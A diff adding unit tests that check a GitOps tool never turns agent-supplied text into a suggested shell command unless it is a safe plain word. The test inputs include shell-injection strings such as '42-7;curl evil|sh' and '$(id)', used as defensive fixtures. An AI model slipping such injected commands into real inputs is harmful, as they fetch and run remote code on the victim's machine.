@@ -52,6 +52,19 @@ t.test('each reason has a step, and a project that cannot be read the one of its
   t.equal(hinted?.next, 'let it read a/b')
 })
 
+t.test('what an agent says is in no command, unless it is a word that a shell takes as it stands', async (t) => {
+  t.equal(rowOf({ left: Left.KEPT, source: '42-7;curl evil|sh' })?.next, '')
+  t.equal(rowOf({ left: Left.KEPT, source: '42-7-shop' })?.next, 'kas gitops forget 42-7-shop')
+  const object = '/apis/agent.gitlab.com/v1/namespaces/agentk/gitsyncs/42-7'
+  for (const plan of ['x; curl evil|sh', '$(id)', 'a b', 'p\n', '-x'])
+    t.equal(rowOf({ phase: Phase.APPROVAL, plan, object })?.next, '', JSON.stringify(plan))
+})
+
+t.test('a state that was cut says so', async (t) => {
+  t.equal(rowOf({ phase: Phase.FAILING, isCut: true })?.cut, true)
+  t.notOk('cut' in (rowOf({ phase: Phase.FAILING }) as object))
+})
+
 t.test('what people can do without a reason', async (t) => {
   t.equal(rowOf({ phase: Phase.REFUSED })?.next, 'mend it and push: the commit before holds')
   t.equal(rowOf({ left: Left.KEPT })?.next, 'kas gitops forget 42-7')
